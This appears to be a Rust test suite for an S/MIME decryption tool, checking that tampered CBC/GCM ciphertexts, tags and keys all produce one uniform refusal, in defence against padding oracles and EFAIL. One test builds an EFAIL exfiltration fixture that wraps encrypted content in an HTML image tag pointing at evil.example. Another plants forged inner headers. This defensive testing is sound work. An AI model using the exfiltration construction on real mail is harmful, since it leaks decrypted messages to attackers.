//! Decryption gives the whole entity or nothing, and tells nobody why (RFC 3218, EFAIL).

use crate::cli::Ran;
use crate::cli::bob;
use crate::cli::command;
use crate::cli::decrypt;
use crate::cli::inspect;
use crate::cli::run_on;
use crate::cli::verify;
use crate::cms::CIPHERTEXT;
use crate::cms::ENCRYPTED_KEY;
use crate::cms::MAC;
use crate::cms::Signed;
use crate::cms::Signer;
use crate::cms::encrypted;
use crate::cms::key_to_bob;
use crate::der;
use crate::mail::attached;
use crate::mail::from_alice;
use crate::mail::letter;
use crate::mail::message_with;
use crate::mail::multipart;
use crate::mail::multipart_signed;
use crate::mail::opaque;
use crate::mail::pkcs7_mime;
use crate::mail::text;
use crate::pki;

const CBC: &str = "-aes-256-cbc";
const GCM: &str = "-aes-256-gcm";
const BLOCK: usize = 16;

/// A letter whose padding in CBC is eight octets of eight.
fn padded_by_eight() -> Vec<u8> {
    let bare = text("").len();
    let body = "x".repeat(BLOCK * 8 + 8 - bare % BLOCK);
    let content = text(&body);
    assert_eq!(content.len() % BLOCK, 8);
    content
}

fn enveloped(der: &[u8]) -> Vec<u8> {
    from_alice(&pkcs7_mime("enveloped-data", der))
}

/// `der` with the octets at `path` changed.
fn changed(der: &[u8], path: &[usize], change: impl Fn(&mut Vec<u8>)) -> Vec<u8> {
    enveloped(&der::edit_content(der, path, change))
}

/// Exit code 65, nothing on standard output; what is said, without the name of the file.
#[track_caller]
fn refused(message: &[u8]) -> String {
    let ran = decrypt(message);
    nothing_came_out(&ran);
    ran.stderr.replace(&ran.file.display().to_string(), "FILE")
}

#[track_caller]
fn nothing_came_out(ran: &Ran) {
    let file = ran.file.display();
    assert_eq!(ran.exit, 65, "{file}: {}", ran.stderr);
    assert!(
        ran.stdout.is_empty(),
        "{file}: {:?}",
        String::from_utf8_lossy(&ran.stdout)
    );
    assert!(!ran.stderr.is_empty(), "{file}: no word why");
}

/// What is said of a message of ours that does not open.
fn usual_words() -> String {
    let der = encrypted(&letter(), GCM, &["bob"]);
    refused(&changed(&der, MAC, |mac| mac[0] ^= 1))
}

#[track_caller]
fn opens(message: &[u8], content: &[u8]) {
    let ran = decrypt(message);
    assert_eq!(ran.exit, 0, "{}: {}", ran.file.display(), ran.stderr);
    let body = &content[content
        .windows(4)
        .position(|end| end == b"\r\n\r\n")
        .unwrap()..];
    assert!(ran.stdout.ends_with(body), "{}", ran.file.display());
}

#[test]
fn what_is_whole_opens() {
    for cipher in [CBC, "-aes-128-cbc", GCM, "-aes-128-gcm"] {
        let content = padded_by_eight();
        opens(&enveloped(&encrypted(&content, cipher, &["bob"])), &content);
        opens(
            &enveloped(&encrypted(&content, cipher, &["alice", "bob"])),
            &content,
        );
    }
}

#[test]
fn wrong_padding_and_lengths_of_cbc_are_one_refusal() {
    let content = padded_by_eight();
    let der = encrypted(&content, CBC, &["bob"]);
    opens(&enveloped(&der), &content);
    let usual = usual_words();
    // The last octet of the padding is 8, and becomes 0, 17, 255, 9.
    for delta in [8, 8 ^ 17, 8 ^ 255, 8 ^ 9] {
        let flipped = changed(&der, CIPHERTEXT, |octets| {
            let last = octets.len() - BLOCK - 1;
            octets[last] ^= delta;
        });
        assert_eq!(refused(&flipped), usual, "delta {delta}");
    }
    // Another octet of it.
    for place in 2..=8 {
        let flipped = changed(&der, CIPHERTEXT, |octets| {
            let at = octets.len() - BLOCK - place;
            octets[at] ^= 0x40;
        });
        assert_eq!(refused(&flipped), usual, "octet {place} of the padding");
    }
    for cut in [1, 15, BLOCK, BLOCK + 1, 4 * BLOCK] {
        let cut_off = changed(&der, CIPHERTEXT, |octets| {
            octets.truncate(octets.len() - cut)
        });
        assert_eq!(refused(&cut_off), usual, "{cut} octets less");
    }
    assert_eq!(
        refused(&changed(&der, CIPHERTEXT, Vec::clear)),
        usual,
        "no ciphertext"
    );
    assert_eq!(
        refused(&changed(&der, CIPHERTEXT, |octets| octets.push(0))),
        usual,
        "one octet more"
    );
}

#[test]
fn every_change_of_gcm_is_one_refusal() {
    let content = padded_by_eight();
    let der = encrypted(&content, GCM, &["bob"]);
    opens(&enveloped(&der), &content);
    let usual = usual_words();
    for at in [0, 1, 17, 100] {
        assert_eq!(
            refused(&changed(&der, CIPHERTEXT, |octets| octets[at] ^= 1)),
            usual,
            "octet {at}"
        );
    }
    for at in 0..16 {
        assert_eq!(
            refused(&changed(&der, MAC, |mac| mac[at] ^= 0x80)),
            usual,
            "octet {at} of the tag"
        );
    }
    assert_eq!(
        refused(&changed(&der, CIPHERTEXT, |octets| octets.truncate(20))),
        usual
    );
    assert_eq!(refused(&changed(&der, CIPHERTEXT, Vec::clear)), usual);
    // The nonce.
    assert_eq!(
        refused(&changed(&der, &[1, 0, 2, 1, 1, 0], |nonce| nonce[0] ^= 1)),
        usual
    );
}

#[test]
fn a_short_tag_is_refused() {
    let der = encrypted(&letter(), GCM, &["bob"]);
    opens(&enveloped(&der), &letter());
    for length in [0, 1, 4, 8, 11, 17] {
        // RFC 5084 §3.2: 12 to 16 octets.
        let said = der::edit(&der, &[1, 0, 2, 1, 1, 1], |_| der::integer(length));
        let resized = der::edit_content(&said, MAC, |mac| {
            mac.resize(usize::try_from(length).unwrap(), 0);
        });
        refused(&enveloped(&resized));
    }
    // The tag is cut, and the parameters say otherwise.
    refused(&changed(&der, MAC, |mac| mac.truncate(12)));
    refused(&changed(&der, MAC, Vec::clear));
}

#[test]
fn a_wrong_key_and_a_wrong_padding_of_it_are_one_refusal() {
    let der = encrypted(&letter(), GCM, &["bob"]);
    opens(&enveloped(&der), &letter());
    let usual = usual_words();
    let with = |key: Vec<u8>| {
        refused(&changed(&der, ENCRYPTED_KEY, |octets| {
            octets.clone_from(&key)
        }))
    };
    // Well padded: another key, too short, too long, none.
    for length in [32, 16, 31, 33, 64, 1] {
        assert_eq!(
            with(key_to_bob(&vec![7; length])),
            usual,
            "key of {length} octets"
        );
    }
    // Not padded at all.
    for octet in [0, 1, 2, 0x7f] {
        assert_eq!(with(vec![octet; 256]), usual, "octets {octet:02x}");
    }
    assert_eq!(with(vec![0xff; 256]), usual, "more than the modulus");
    assert_eq!(with(vec![1; 255]), usual, "an octet less than the modulus");
    assert_eq!(with(vec![1; 257]), usual, "an octet more than the modulus");
    assert_eq!(with(Vec::new()), usual, "no encrypted key");
    let flipped = changed(&der, ENCRYPTED_KEY, |octets| octets[128] ^= 1);
    assert_eq!(refused(&flipped), usual, "one bit");
}

#[test]
fn a_wrong_key_in_cbc_is_the_same_refusal() {
    let usual = usual_words();
    for key in [key_to_bob(&[7; 32]), vec![1; 256], key_to_bob(&[7; 16])] {
        // One wrong key of 256 leaves a padding that looks right; two in a row are one of 65,536.
        let attempts = [(); 2].map(|()| {
            let der = encrypted(&letter(), CBC, &["bob"]);
            decrypt(&changed(&der, ENCRYPTED_KEY, |octets| {
                octets.clone_from(&key)
            }))
        });
        let failed: Vec<&Ran> = attempts.iter().filter(|ran| ran.exit != 0).collect();
        assert!(!failed.is_empty(), "{}", attempts[0].file.display());
        for ran in failed {
            nothing_came_out(ran);
            assert_eq!(
                ran.stderr.replace(&ran.file.display().to_string(), "FILE"),
                usual
            );
        }
    }
}

#[test]
fn inspection_says_no_more_than_decryption() {
    let cbc = encrypted(&padded_by_eight(), CBC, &["bob"]);
    let gcm = encrypted(&padded_by_eight(), GCM, &["bob"]);
    let messages = [
        changed(&cbc, CIPHERTEXT, |octets| octets.truncate(octets.len() - 1)),
        changed(&cbc, CIPHERTEXT, |octets| {
            octets.truncate(octets.len() - BLOCK)
        }),
        changed(&gcm, CIPHERTEXT, |octets| octets[3] ^= 1),
        changed(&gcm, MAC, |mac| mac[3] ^= 1),
        changed(&gcm, ENCRYPTED_KEY, |octets| octets[3] ^= 1),
        changed(&gcm, ENCRYPTED_KEY, |octets| {
            octets.clone_from(&key_to_bob(&[7; 32]))
        }),
    ];
    let errors: Vec<_> = messages
        .iter()
        .map(|message| inspect(message).all("error"))
        .collect();
    assert!(!errors[0].is_empty());
    for error in &errors {
        assert_eq!(error, &errors[0]);
    }
}

#[test]
fn nothing_is_decrypted_that_is_not_for_us() {
    let others = enveloped(&encrypted(&letter(), CBC, &["alice"]));
    refused(&others);
    refused(&from_alice(&letter()));
    refused(&from_alice(&opaque(
        &Signed::by([Signer::of("alice")], &letter()).opaque(),
    )));
    refused(b"");
    refused(b"no message at all");
}

/// EFAIL, direct exfiltration: parts that a reader would glue together.
#[test]
fn an_encrypted_part_beside_others_is_never_decrypted() {
    let sealed = pkcs7_mime("enveloped-data", &encrypted(&letter(), CBC, &["bob"]));
    let html = |text: &str| format!("Content-Type: text/html\r\n\r\n{text}\r\n").into_bytes();
    let before = html("<img src=\"http://evil.example/");
    let after = html("\">");
    opens(&from_alice(&sealed), &letter());
    for entity in [
        multipart(
            "multipart/mixed",
            &[before.clone(), sealed.clone(), after.clone()],
        ),
        multipart("multipart/alternative", &[before.clone(), sealed.clone()]),
        multipart("multipart/related", &[sealed.clone(), after.clone()]),
        multipart("multipart/mixed", std::slice::from_ref(&sealed)),
        multipart("multipart/mixed", &[sealed.clone(), sealed.clone()]),
        multipart(
            "multipart/mixed",
            &[
                before,
                multipart("multipart/mixed", std::slice::from_ref(&sealed)),
                after,
            ],
        ),
        attached(&from_alice(&sealed)),
        multipart("multipart/digest", &[attached(&from_alice(&sealed))]),
    ] {
        let message = from_alice(&entity);
        refused(&message);
        let inspected = inspect(&message);
        inspected.layers("C");
        let kinds = inspected.all("kind");
        assert!(
            kinds.contains(&"enveloped".into()),
            "{}: {kinds:?}",
            inspected.file.display()
        );
        verify(&message).is_not_valid();
        // Nor does somebody's signature around it make it a layer.
        let signature = Signed::by([Signer::of("mallory")], &entity).detached();
        refused(&from_alice(&multipart_signed(&entity, &signature)));
    }
}

#[test]
fn only_what_describes_the_content_comes_from_inside() {
    let inner =
        b"From: ceo@a.example\r\nSubject: Pay\r\nAuthentication-Results: a.example; smime=pass\r\n";
    let content = [&inner[..], &text("hello")].concat();
    let sealed = pkcs7_mime("enveloped-data", &encrypted(&content, CBC, &["bob"]));
    let fields = "From: alice@a.example\r\nX-Kept: yes\r\n";
    let ran = decrypt(&message_with(fields, &sealed));
    assert_eq!(ran.exit, 0, "{}", ran.stderr);
    let out = String::from_utf8(ran.stdout).unwrap();
    let (header, body) = out.split_once("\r\n\r\n").unwrap();
    assert_eq!(body, "hello\r\n");
    for (field, count) in [
        ("From: alice@a.example", 1),
        ("X-Kept: yes", 1),
        ("Subject: Figures", 1),
        ("Content-Type: text/plain", 1),
        ("Content-Type:", 1),
        ("Content-Transfer-Encoding:", 1),
        ("MIME-Version:", 1),
        ("pkcs7", 0),
        ("ceo@a.example", 0),
        ("Subject:", 1),
        ("Authentication-Results", 0),
    ] {
        assert_eq!(
            header.matches(field).count(),
            count,
            "{field} in {}: {header}",
            ran.file.display()
        );
    }
}

#[test]
fn a_file_is_written_when_all_of_it_is_there() {
    let out = pki::file(".out", b"what was there");
    let run = |message: &[u8]| {
        let file = pki::file(".eml", message);
        let bob = bob();
        let mut arguments = vec!["decrypt", "-o", out.to_str().unwrap()];
        arguments.extend(bob.iter().map(String::as_str));
        run_on(&file, command(&arguments).arg(&file))
    };
    let der = encrypted(&letter(), GCM, &["bob"]);
    nothing_came_out(&run(&changed(&der, MAC, |mac| mac[5] ^= 1)));
    assert_eq!(std::fs::read(&out).unwrap(), b"what was there");
    let name = out.file_name().unwrap().to_str().unwrap();
    let beside = std::fs::read_dir(out.parent().unwrap()).unwrap();
    let names = beside.map(|entry| entry.unwrap().file_name().into_string().unwrap());
    assert_eq!(
        names.filter(|found| found.starts_with(name)).count(),
        1,
        "something is left over"
    );
    let ran = run(&enveloped(&der));
    assert_eq!((ran.exit, ran.stdout.len()), (0, 0), "{}", ran.stderr);
    assert!(
        std::fs::read(&out)
            .unwrap()
            .ends_with(b"pay 100 to Alice.\r\n")
    );
}
